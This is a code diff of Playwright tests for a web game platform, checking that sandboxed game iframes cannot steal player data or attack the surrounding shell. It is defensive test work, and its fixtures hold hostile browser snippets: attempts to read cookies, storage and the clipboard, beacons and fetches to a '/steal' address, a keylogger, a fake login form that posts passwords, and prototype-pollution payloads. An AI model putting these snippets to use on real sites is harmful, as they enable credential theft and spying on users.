@@ -1,5 +1,5 @@
-import type { Page } from '@playwright/test';
-import { signInNewPlayer } from '../drivers/account';
+import type { FrameLocator, Page, Request } from '@playwright/test';
+import { newPlayer } from '../drivers/account';
 import {
   entryScript,
   FIXTURE_SLOT,
@@ -8,125 +8,152 @@ import {
   serveFixtures,
 } from '../drivers/fixture-remote';
 import { endGame, expectShellWorks, result, startGame } from '../drivers/play';
-import { systemAddresses } from '../drivers/system';
 import { expect, test } from '../drivers/test';
+import { attemptingGame, attempts, withAddresses } from './hostile-attempts';
 
-/** A release in a frame. @param mount the body of its mount function. */
-const framed = (version: string, mount: string): FixtureRemote => ({
+// One worker for all tests of this file, because each test needs little of the processor.
+test.describe.configure({ mode: 'default', timeout: 90_000 });
+
+/** A release in a place. @param mount the body of its mount function. */
+const hostile = (version: string, mount: string, place?: 'frame'): FixtureRemote => ({
   slot: FIXTURE_SLOT,
   version,
   script: entryScript(version, gameModule(mount)),
-  place: 'frame',
+  ...(place !== undefined && { place }),
 });
+const framed = (version: string, mount: string) => hostile(version, mount, 'frame');
 
 const gameFrame = (page: Page) => page.frameLocator('iframe[title="Game"]');
 
-/**
- * Attacks of a game in a frame. Each is an expression that resolves to what the game got hold of; null or an exception
- * means that it got nothing.
- */
-const thefts: { what: string; attempt: string }[] = [
-  { what: "the shell's document", attempt: 'parent.document.body.innerHTML' },
-  { what: "the shell's storage", attempt: 'Object.keys(parent.localStorage).join()' },
-  { what: 'storage of its own site', attempt: 'localStorage.length + 1' },
-  { what: 'cookies', attempt: 'document.cookie.length + 1' },
-  {
-    what: 'IndexedDB',
-    attempt:
-      'new Promise((done, fail) => { const open = indexedDB.open("x"); open.onsuccess = () => done("open"); open.onerror = fail; })',
-  },
-  { what: 'the Cache API', attempt: 'caches.keys().then((keys) => keys.length + 1)' },
-  {
-    what: 'a service worker',
-    attempt: 'navigator.serviceWorker.register("/static/js/sw.js").then(() => "registered")',
-  },
-  { what: 'the address of the shell', attempt: 'document.referrer || null' },
-  { what: 'the response of another site', attempt: `fetch('BACKEND/rest/v1/').then(() => "answered")` },
-  {
-    what: 'a file of the games origin that is not in its release',
-    attempt: `new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = () => done("read"); x.onerror = fail; x.open("GET", "GAMES/fixture/3.1.0/unlisted.json"); x.send(); })`,
-  },
-  { what: 'a beacon to another site', attempt: `navigator.sendBeacon('BACKEND/steal', 'x') && null` },
-  {
-    what: 'an image of another site',
-    attempt: `new Promise((done, fail) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = fail; i.src = 'SHELL/mark.svg'; })`,
-  },
-  { what: 'WebRTC', attempt: 'new RTCPeerConnection().createDataChannel("x").label' },
-  {
-    what: 'WebRTC of a nested document',
-    attempt: `(() => { const f = document.body.appendChild(document.createElement('iframe')); return new f.contentWindow.RTCPeerConnection().createDataChannel("x").label; })()`,
-  },
-  {
-    what: 'WebRTC of a nested document with source',
-    attempt: `new Promise((done, fail) => { const f = document.createElement('iframe'); f.srcdoc = '<script>parent.postMessage(typeof RTCPeerConnection, "*")<\\/script>'; onmessage = ({ data }) => data === 'function' ? done(data) : fail(); document.body.append(f); setTimeout(fail, 800); })`,
-  },
-  { what: 'WebTransport', attempt: 'new WebTransport("https://127.0.0.1:9/").url' },
-  {
-    what: 'a WebSocket',
-    attempt: `new Promise((done, fail) => { const s = new WebSocket('BACKEND'.replace('http', 'ws')); s.onopen = () => done("open"); s.onerror = fail; })`,
-  },
-  { what: 'a window', attempt: 'window.open("about:blank") && "opened"' },
-  { what: 'a dialog', attempt: 'confirm("Password?") && "confirmed"' },
-  { what: 'eval', attempt: '(0, eval)("1 + 1")' },
-  {
-    what: 'an inline script',
-    attempt: `(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s); return window.ran ?? null; })()`,
-  },
-  {
-    what: 'a script that is not in its release',
-    attempt: `new Promise((done, fail) => { const s = document.createElement('script'); s.onload = () => done("ran"); s.onerror = fail; s.src = 'SHELL/theme.js'; document.head.append(s); })`,
-  },
-  { what: 'the clipboard', attempt: 'navigator.clipboard.readText()' },
-  {
-    what: 'the camera',
-    attempt: 'navigator.mediaDevices.getUserMedia({ video: true }).then(() => "camera")',
-  },
-  { what: 'full screen', attempt: 'document.documentElement.requestFullscreen().then(() => "full")' },
-];
+/** Watches the requests of a page. @returns those to addresses with `/steal` that the browser has not blocked. */
+function watchLeaks(page: Page): () => string[] {
+  const sent: Request[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('/steal')) sent.push(request);
+  });
+  return () =>
+    sent.filter((request) => request.failure()?.errorText !== 'csp').map((request) => request.url());
+}
+
+/** Plays a game that makes every attempt. @returns what succeeded, and the requests to addresses with `/steal/`. */
+async function attemptAll(page: Page, place: 'frame' | undefined) {
+  const leaks = watchLeaks(page);
+  page.on('dialog', (dialog) => void dialog.accept());
+  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+  await newPlayer(page);
+  await serveFixtures(page, hostile('3.1.0', attemptingGame(), place));
+  await startGame(page, FIXTURE_SLOT);
+  const view: Page | FrameLocator = place === 'frame' ? gameFrame(page) : page;
+  const pressed = attempts.filter(({ needsPress }) => needsPress).map(({ what }) => what);
+  for (const [index, name] of [...pressed, 'everything else'].entries()) {
+    await view.getByRole('button', { name, exact: true }).click();
+    await expect(view.locator(`pre[data-done="${index + 1}"]`)).toBeAttached({ timeout: 40_000 });
+  }
+  const stolen: string[] = JSON.parse((await view.locator('pre').textContent()) ?? '');
+  return { stolen, leaks: leaks() };
+}
+
+test('a hostile game in the page gets all that its attempts ask for, except what the page forbids', async ({
+  page,
+  pageProblems,
+}) => {
+  const { stolen, leaks } = await attemptAll(page, undefined);
+  const leaked = new Map([
+    ['a request to another site', '/steal/fetch'],
+    ['a beacon', '/steal/beacon'],
+  ]);
+  const succeeded = attempts
+    .map(({ what }) => what)
+    .filter((what) => stolen.includes(what) || leaks.some((url) => url.endsWith(leaked.get(what) ?? ' ')));
+  expect(succeeded).toEqual(attempts.filter(({ inPage }) => inPage === true).map(({ what }) => what));
+  // The browser reports what its policy blocked.
+  pageProblems.splice(0);
+});
 
 test('a hostile game in a frame gets nothing of the player, the shell or another site', async ({
   page,
   pageProblems,
 }) => {
-  const requests: string[] = [];
-  page.on('request', (request) => requests.push(request.url()));
-  const { backend, shell, games } = systemAddresses();
-  const attempts = thefts.map(({ what, attempt }) => {
-    const source = attempt
-      .replaceAll('BACKEND', backend)
-      .replaceAll('SHELL', shell)
-      .replaceAll('GAMES', games);
-    return `[${JSON.stringify(what)}, async () => (${source})]`;
-  });
-  await signInNewPlayer(page);
-  await serveFixtures(
-    page,
-    framed(
-      '3.1.0',
-      `const list = element.appendChild(document.createElement('pre'));
-       host.ready();
-       (async () => {
-         const stolen = [];
-         for (const [what, attempt] of [${attempts.join(',')}]) {
-           const timeout = new Promise((done) => setTimeout(done, 1500, null));
-           const got = await Promise.race([attempt(), timeout]).catch(() => null);
-           if (got !== null && got !== undefined && got !== false) stolen.push(what + ': ' + got);
-         }
-         list.textContent = JSON.stringify(stolen);
-       })();
-       return { unmount() {} };`,
-    ),
-  );
-  await startGame(page, FIXTURE_SLOT);
-  await expect(gameFrame(page).locator('pre')).not.toBeEmpty({ timeout: 30_000 });
-  expect(JSON.parse(await gameFrame(page).locator('pre').innerText())).toEqual([]);
-  expect(requests.filter((url) => url.includes('/steal'))).toEqual([]);
+  expect(await attemptAll(page, 'frame')).toEqual({ stolen: [], leaks: [] });
   // The browser reports what its policy blocked.
   pageProblems.splice(0);
 });
 
+/** A game that logs keys, takes the focus all the time, and shows a login form that sends the password. */
+const SPYING_GAME = `
+  const typed = element.appendChild(document.createElement('output'));
+  addEventListener('keydown', ({ key }) => { typed.textContent += key; }, true);
+  const form = element.appendChild(document.createElement('form'));
+  form.action = 'SHELL/steal/login';
+  form.innerHTML = '<label>Password <input name="password" type="password"></label><button>Log in</button>';
+  const grab = element.appendChild(document.createElement('button'));
+  grab.textContent = 'Grab';
+  // Two times a second, so that the shell does not close the frame.
+  grab.onclick = () => setInterval(() => { window.focus(); grab.focus(); }, 500);
+  host.ready();
+  return { unmount() {}, end() { host.onGameEnd({ metrics: {} }) } };`;
+
+/** Uses the pause button of the shell by keyboard while the game takes the focus. @returns whether it kept the focus. */
+async function usePauseByKeyboard(page: Page, view: Page | FrameLocator): Promise<boolean> {
+  const pause = page.getByRole('button', { name: 'Pause' });
+  await view.getByRole('button', { name: 'Grab' }).click();
+  await page.mouse.move(0, 0);
+  await pause.focus();
+  // Any key, so that the shell knows that the player uses the keyboard.
+  await page.keyboard.press('Shift');
+  await page.waitForTimeout(1200);
+  return pause.evaluate((button) => document.activeElement === button);
+}
+
+test('a hostile game in the page takes the focus, reads keys, and sends what a player types into its login form', async ({
+  page,
+}) => {
+  await newPlayer(page);
+  await serveFixtures(page, hostile('3.1.3', withAddresses(SPYING_GAME)));
+  await startGame(page, FIXTURE_SLOT);
+  await expect(page.getByRole('button', { name: 'Grab' })).toBeVisible();
+  await page.getByRole('button', { name: 'Pause' }).press('x');
+  await expect(page.locator('output').filter({ hasText: 'x' })).toBeVisible();
+  expect(await usePauseByKeyboard(page, page)).toBe(false);
+  const sent = page.waitForRequest(/\/steal\/login\?password=secret/);
+  await page.getByLabel('Password').fill('secret');
+  await page.getByRole('button', { name: 'Log in', exact: true }).click();
+  await sent;
+});
+
+test('a hostile game in a frame does not keep the focus, gets no key of the shell, and sends nothing from its login form', async ({
+  page,
+  pageProblems,
+}) => {
+  const leaks = watchLeaks(page);
+  await newPlayer(page);
+  await serveFixtures(page, framed('3.1.3', withAddresses(SPYING_GAME)));
+  await startGame(page, FIXTURE_SLOT);
+  const view = gameFrame(page);
+  await view.getByLabel('Password').fill('secret');
+  await view.getByRole('button', { name: 'Log in' }).click();
+  await page.getByRole('button', { name: 'Pause' }).press('x');
+  expect(await usePauseByKeyboard(page, view)).toBe(true);
+  await expect(view.locator('output')).not.toContainText('x');
+  await endGame(page);
+  await expect(result(page)).toBeVisible();
+  expect(leaks()).toEqual([]);
+  // The browser reports what its policy blocked.
+  pageProblems.splice(0);
+});
+
+test('a hostile game in the page navigates it to another site', async ({ page, pageProblems }) => {
+  await newPlayer(page);
+  const run = `host.ready(); location.href = 'BACKEND/steal/page'; return { unmount() {} };`;
+  await serveFixtures(page, hostile('3.1.4', withAddresses(run)));
+  const left = page.waitForRequest(/\/steal\/page/);
+  await startGame(page, FIXTURE_SLOT);
+  await left;
+  pageProblems.splice(0);
+});
+
 test('a game in a frame that loops for ever is closed, and the shell stays usable', async ({ page }) => {
-  await signInNewPlayer(page);
+  await newPlayer(page);
   const looping = framed(
     '3.1.1',
     `const button = element.appendChild(document.createElement('button'));
@@ -140,21 +167,40 @@ test('a game in a frame that loops for ever is closed, and the shell stays usabl
   await gameFrame(page).getByRole('button', { name: 'Freeze' }).click();
   // The shell still runs while the frame loops.
   await expect(page.getByRole('button', { name: 'Pause' })).toBeEnabled();
-  await expect(page.locator('iframe')).toHaveCount(0, { timeout: 10_000 });
+  await expect(page.locator('.play-ground iframe')).toHaveCount(0, { timeout: 10_000 });
   // The points that the game had reported count.
   await expect(result(page)).toContainText('7');
   await expectShellWorks(page);
 });
 
-/** Attacks on the page around the frame. `isClosed`: the shell gives the frame up, and shows a card instead. */
+/** Sends forged and malformed messages over the port of the frame, which the game takes from the frame's own code. */
+const FORGED_MESSAGES = `
+  const post = MessagePort.prototype.postMessage;
+  MessagePort.prototype.postMessage = function (...sent) {
+    MessagePort.prototype.postMessage = post;
+    const bad = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
+    for (const message of [
+      bad, 'null', '[]', 'no JSON', { type: 'score', run: 1, total: 5 },
+      '{"type":"score","run":1,"total":"5","__proto__":{"polluted":1}}',
+      '{"type":"loaded","info":' + bad + ',"canPlayItself":true}',
+      '{"type":"threw","run":1,"name":"' + 'x'.repeat(200) + '"}',
+      '{"type":"end","run":1,"summary":{"metrics":' + bad + ',"__proto__":{"polluted":1}}}',
+    ]) post.call(this, message);
+    return post.apply(this, sent);
+  };`;
+
+/** What a game in a frame does to the page around it. `isClosed`: the shell gives the frame up, and shows a card instead. */
 const attacks: { does: string; run: string; isClosed: boolean }[] = [
   { does: 'navigates its frame', run: `location.href = 'BACKEND/steal'`, isClosed: true },
-  { does: 'navigates the page', run: `top.location.href = 'BACKEND/steal'`, isClosed: false },
   {
-    does: 'submits a form',
-    run: `const f = document.createElement('form'); f.action = 'BACKEND/steal'; document.body.append(f); f.submit()`,
+    does: 'navigates the page, submits a form and sends messages to the window of the shell',
+    run: `parent.postMessage('mindloom-frame', '*', [new MessageChannel().port1]);
+          for (const message of ['{"type":"score","run":1,"total":5}', { type: 'end', run: 1 }]) top.postMessage(message, '*');
+          const f = document.createElement('form'); f.action = 'BACKEND/steal'; document.body.append(f); f.submit();
+          top.location.href = 'BACKEND/steal'`,
     isClosed: false,
   },
+  { does: 'forges messages and pollutes prototypes with them', run: FORGED_MESSAGES, isClosed: false },
   {
     does: 'sends 2,000 messages at once',
     run: `for (let sent = 0; sent < 2000; sent += 1) host.announce('x' + sent)`,
@@ -172,31 +218,30 @@ for (const { does, run, isClosed } of attacks) {
     page,
     pageProblems,
   }) => {
-    const { backend } = systemAddresses();
-    const requests: string[] = [];
-    page.on('request', (request) => requests.push(request.url()));
-    await signInNewPlayer(page);
+    const leaks = watchLeaks(page);
+    await newPlayer(page);
     await serveFixtures(
       page,
       framed(
         '3.1.2',
         `element.append('Hostile'); host.ready();
-         setTimeout(() => { ${run.replaceAll('BACKEND', backend)} }, 300);
+         setTimeout(() => { ${withAddresses(run)} }, 300);
          return { unmount() {}, end() { host.onGameEnd({ metrics: {} }) } };`,
       ),
     );
     await startGame(page, FIXTURE_SLOT);
     if (isClosed) {
       await expect(page.getByRole('alert').filter({ hasText: 'ML-722' })).toBeVisible();
-      await expect(page.locator('iframe')).toHaveCount(0);
+      await expect(page.locator('.play-ground iframe')).toHaveCount(0);
       await expectShellWorks(page);
     } else {
-      await expect(gameFrame(page).getByText('Hostile')).toBeVisible();
+      await expect(gameFrame(page).getByText('Hostile').or(result(page))).toBeVisible();
       await page.waitForTimeout(1000);
-      await endGame(page);
+      if (!(await result(page).isVisible())) await endGame(page);
       await expect(result(page)).toBeVisible();
     }
-    expect(requests.filter((url) => url.includes('/steal'))).toEqual([]);
+    expect(leaks()).toEqual([]);
+    expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
     // The browser reports what its policy blocked.
     pageProblems.splice(0);
   });
